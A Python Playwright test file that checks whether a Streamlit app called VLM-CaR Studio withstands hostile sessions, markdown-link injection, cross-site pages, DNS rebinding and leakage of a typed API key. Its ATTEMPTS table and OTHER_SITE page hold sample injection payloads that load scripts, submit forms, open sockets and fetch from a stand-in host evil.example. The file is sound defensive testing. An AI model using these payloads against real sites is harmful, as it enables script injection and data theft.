"""Strangers in a real browser: a hostile session, a page of another site, a name that was made to lead here."""

import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, WebSocket, expect

from tests import hostile
from tests.browser.conftest import Server, serving, settle
from tests.studio_sessions import verified
from tests.test_pages import PAGES
from vlmcar_core import pipeline
from vlmcar_core.store import Session

pytestmark = pytest.mark.browser
KEY = "sk-typed-where-strangers-are-0123456789"
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
"""
READ_AS_MORE = """() => {
    const wanted = "a[href*=evil], img[src*=evil], svg a, [onerror], .katex, .stMarkdownColoredText, " +
        ".stMarkdownColoredBackground, base, object, embed, form[action*=evil]";
    const roots = [document];
    for (const root of roots)
        for (const one of root.querySelectorAll("*")) if (one.shadowRoot) roots.push(one.shadowRoot);
    return roots.flatMap((root) => [...root.querySelectorAll(wanted)].map((one) => one.outerHTML.slice(0, 200)));
}"""


class Seen:
    """What a page asked for, said and complained about."""

    def __init__(self, page: Page) -> None:
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.complaints: list[str] = []
        self.received: list[bytes] = []
        page.add_init_script(WATCH)
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("websocket", self._listen)
        page.on("console", lambda said: self.complaints.append(said.text) if "Policy" in said.text else None)

    def _listen(self, found: WebSocket) -> None:
        self.requests.append(found.url)
        found.on("framereceived", lambda data: self.received.append(data.encode() if isinstance(data, str) else data))

    def elsewhere(self, server: Server) -> list[str]:
        """The requests that did not go to the app."""
        own = (server.url, server.url.replace("http:", "ws:"), "data:", f"blob:{server.url}")
        return [url for url in self.requests if not url.startswith(own)]


@pytest.fixture(scope="module")
def stranger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """An app with hostile sessions and a sound one."""
    root = tmp_path_factory.mktemp("strange") / "sessions"
    root.mkdir()
    hostile.sessions(root)
    verified(root, "sound")
    with serving(root) as started:
        yield started


@pytest.fixture
def seen(page: Page) -> Seen:
    return Seen(page)


def unfold(page: Page) -> None:
    """Open everything that can be opened."""
    page.evaluate(
        """() => document.querySelectorAll("[data-testid=stExpander] details:not([open]) > summary")
            .forEach((summary) => summary.click())"""
    )
    settle(page)


PLACES = {
    "sound": PAGES,
    "asked": ("propose", "review", "verify", "examine", "repair", "report"),
    "trained": ("record", "propose", "verify", "train", "report"),
    "unknown": ("task", "record", "train"),
}
"""Where each session has words to show."""


@pytest.mark.parametrize("name", PLACES)
def test_no_page_breaks_the_policy_and_no_word_is_more_than_a_word(
    stranger: Server, page: Page, seen: Seen, name: str
) -> None:
    shown = 0
    for place in PLACES[name]:
        page.goto(f"{stranger.url}/{place}?session={name}")
        settle(page)
        unfold(page)
        assert page.evaluate("window.violations") == [], place
        assert page.evaluate(READ_AS_MORE) == [], place
        assert page.evaluate("window.owned") is None
        shown += page.get_by_text("W0RD").count()
    assert seen.complaints == [] and seen.dialogs == [] and seen.elsewhere(stranger) == []
    assert (shown > 20) == (name in ("asked", "trained"))


def test_a_link_with_words_for_a_session_says_them_as_words(stranger: Server, page: Page, seen: Seen) -> None:
    page.goto(f"{stranger.url}/verify?session=![x](http://evil.example/q.png)%20:red[r]%20[l](http://evil.example)")
    settle(page)
    expect(page.get_by_text("There is no readable session")).to_contain_text("![x](")
    assert page.evaluate(READ_AS_MORE) == [] and seen.elsewhere(stranger) == []


def test_what_a_checker_prints_and_the_editor_says_about_it_is_text(stranger: Server, page: Page, seen: Seen) -> None:
    page.goto(f"{stranger.url}/review?session=asked&checker=fails")
    settle(page)
    expect(page.get_by_text("It printed", exact=True)).to_be_visible()
    frame = page.frame_locator("iframe")
    editor = frame.locator("#ace-editor textarea").first
    editor.press("Control+Home")
    page.keyboard.insert_text("import evil\n")
    settle(page)
    frame.locator(".ace_gutter-cell.ace_error").first.hover()
    expect(frame.locator(".ace_tooltip").first).to_contain_text("'evil' may not be imported")
    assert frame.locator("a[href*=evil], img[src*=evil], [onerror]").count() == 0
    assert page.evaluate("window.violations") == [] and seen.dialogs == [] and seen.elsewhere(stranger) == []


ATTEMPTS = {
    "a picture": "const one = new Image(); one.src = 'http://evil.example/p.png'; document.body.append(one)",
    "an inline script": "const one = document.createElement('script'); one.textContent = 'owned = 1';"
    " document.body.append(one)",
    "a script": "const one = document.createElement('script'); one.src = 'http://evil.example/s.js';"
    " document.body.append(one)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"owned = 2\">')",
    "a request": "fetch('http://evil.example/f').catch(() => null)",
    "a socket": "try { new WebSocket('ws://evil.example/w') } catch { }",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=http://evil.example/></iframe>')",
    "a form": "document.body.insertAdjacentHTML('beforeend', '<form id=f action=http://evil.example/ target=_top></form>');"
    " document.getElementById('f').submit()",
    "a base": "document.head.insertAdjacentHTML('beforeend', '<base href=http://evil.example/>')",
    "a style": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=http://evil.example/c.css>')",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_what_came_into_a_page_all_the_same_could_load_and_send_nothing(
    stranger: Server, page: Page, seen: Seen, attempt: str
) -> None:
    page.goto(f"{stranger.url}/home")
    settle(page)
    page.evaluate(f"() => {{ {ATTEMPTS[attempt]} }}")
    until = time.monotonic() + 20.0
    while not page.evaluate("window.violations.length"):  # waiting inside the page would need eval, which is refused
        assert time.monotonic() < until
        page.wait_for_timeout(50)
    assert page.evaluate("window.owned") is None and page.url.startswith(stranger.url)


def test_a_report_of_a_hostile_session_runs_nothing_but_its_figures(
    stranger: Server, page: Page, seen: Seen, tmp_path: Path
) -> None:
    path = tmp_path / "report.html"
    path.write_text(pipeline.report(Session.open(stranger.root, "trained")), encoding="utf-8")
    page.goto(path.as_uri())
    expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible()
    assert page.evaluate("window.violations") == [] and page.evaluate(READ_AS_MORE) == []
    assert page.evaluate("window.owned") is None and seen.dialogs == []
    assert [url for url in seen.requests if not url.startswith(("file:", "data:", "blob:"))] == []


OTHER_SITE = """<!doctype html><title>other</title><body><script>
const told = {};
const image = new Image();
image.onload = () => told.image = "loaded";
image.onerror = () => told.image = "refused";
image.src = "URL/vlmcar/frame/sound/expert-000/0.png";
fetch("URL/_stcore/upload_file/a/b", {method: "POST", mode: "no-cors", body: "x"})
    .then((answer) => told.sent = answer.type, () => told.sent = "refused");
fetch("URL/_stcore/health").then(() => told.read = "read", () => told.read = "refused");
const socket = new WebSocket("URL/_stcore/stream".replace("http", "ws"), ["streamlit"]);
socket.onopen = () => told.socket = "open";
socket.onerror = () => told.socket = "refused";
const frame = document.createElement("iframe");
frame.src = "URL/home";
frame.onload = () => told.frame = "settled";
document.body.append(frame);
window.told = told;
</script>"""


@contextmanager
def another_site(document: str) -> Iterator[int]:
    """A server on another port of this machine, for the length of the block."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            """Nothing."""

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(document.encode())

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_another_site_gets_nothing_and_changes_nothing(stranger: Server, page: Page, host: str) -> None:
    with another_site(OTHER_SITE.replace("URL", stranger.url)) as port:
        page.goto(f"http://{host}:{port}/")
        page.wait_for_function("Object.keys(window.told).length === 5", timeout=20_000)
        told = page.evaluate("window.told")
        inside = [frame.title() for frame in page.frames[1:]]
    assert told["image"] == told["sent"] == told["read"] == told["socket"] == "refused"
    assert "VLM-CaR Studio" not in inside and "Streamlit" not in inside


def test_a_link_from_another_site_opens_the_app(stranger: Server, page: Page) -> None:
    with another_site(f"<a href='{stranger.url}/home'>there</a>") as port:
        page.goto(f"http://localhost:{port}/")
        page.get_by_text("there").click()
        settle(page)
    expect(page.get_by_role("heading", name="VLM-CaR Studio")).to_be_visible()


def test_a_name_that_was_made_to_lead_here_gets_nothing(stranger: Server, page: Page) -> None:
    port = stranger.url.rpartition(":")[2]
    answer = page.goto(f"http://rebound.example:{port}/home")
    assert answer is not None and answer.status == 400
    assert page.evaluate("fetch('/_stcore/health').then((answer) => answer.status)") == 400
    socket = "new Promise((told) => { const s = new WebSocket(`ws://${location.host}/_stcore/stream`, ['streamlit']);"
    assert page.evaluate(f"{socket} s.onopen = () => told('open'); s.onerror = () => told('refused') }})") == "refused"


def test_a_typed_key_comes_back_to_no_page_and_into_no_log(
    stranger: Server, page: Page, seen: Seen, wait: Callable[[Callable[[], bool], float], None]
) -> None:
    page.goto(f"{stranger.url}/models?session=sound")
    settle(page)
    field = page.get_by_label("Key, for this browser session only")
    field.fill(KEY)
    field.press("Enter")
    expect(page.get_by_text("Used: the key from: typed")).to_be_visible()
    wait(lambda: any(b"Used" in data for data in seen.received), 10)
    for place in ("3 Propose", "Models", "Compare models"):
        page.get_by_role("link", name=place, exact=True).first.click()
        settle(page)
        assert KEY not in page.content() and KEY not in page.url
    assert not any(KEY.encode() in data for data in seen.received)
    assert KEY not in str(page.context.storage_state()) + page.evaluate("JSON.stringify({...sessionStorage})")
    kept = [path for path in stranger.root.parent.rglob("*") if path.is_file()]
    assert any(path.suffix == ".log" for path in kept)
    assert not [path for path in kept if KEY.encode() in path.read_bytes()]


def test_the_browser_used_here_can_be_told_of_a_violation(chromium: Browser) -> None:
    """Without this, a browser that reports nothing would pass all tests above."""
    page = chromium.new_page()
    page.add_init_script(WATCH)
    with another_site("<meta http-equiv='Content-Security-Policy' content=\"img-src 'none'\"><img src=/x.png>") as port:
        page.goto(f"http://127.0.0.1:{port}/")
        page.wait_for_function("window.violations.length > 0", timeout=10_000)
    page.close()
